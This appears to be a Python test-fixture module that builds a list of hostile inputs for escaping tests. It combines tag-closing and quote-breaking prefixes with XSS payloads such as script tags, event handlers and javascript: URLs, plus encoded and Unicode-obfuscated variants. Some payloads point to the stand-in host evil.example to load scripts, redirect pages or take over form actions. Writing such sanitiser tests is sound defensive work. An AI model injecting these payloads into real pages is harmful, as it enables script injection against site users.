"""Texts that try to become markup or script: elements × ways out of where a text stands, and some that need none."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.chat_markers import TEMPLATES

_WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</template>",
    "</style>",
    "</select></option>",
    "</td></tr></table>",
    "</svg>",
    "{{",
    "{% endblock %}",
    "\\u003c\\u0022>",
    "\u2028\u2029>",
)
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<form action=//evil.example><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
)
_WITHOUT_AN_ELEMENT = (
    *TEMPLATES,
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<!--",
    "<![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\u00a0>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
)


def _all() -> Iterator[str]:
    for element in _ELEMENTS:
        for way_out in _WAYS_OUT:
            yield way_out + element
    yield from _WITHOUT_AN_ELEMENT


HOSTILE_TEXTS = tuple(_all())
